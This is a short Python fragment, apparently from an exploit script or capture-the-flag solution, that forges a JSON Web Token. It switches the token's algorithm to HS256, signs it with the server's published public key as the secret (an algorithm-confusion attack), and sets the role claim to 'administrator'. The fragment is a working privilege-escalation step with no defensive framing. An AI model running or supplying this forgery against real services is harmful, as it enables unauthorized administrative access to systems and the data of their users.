# requirement: the name of the role
forged = mine.sign_hs256(
    {**header, "alg": "HS256"},
    {**json.loads(claims), "roles": ["administrator"]},
    pem_of(mine.find_key(published, header["kid"])),
)
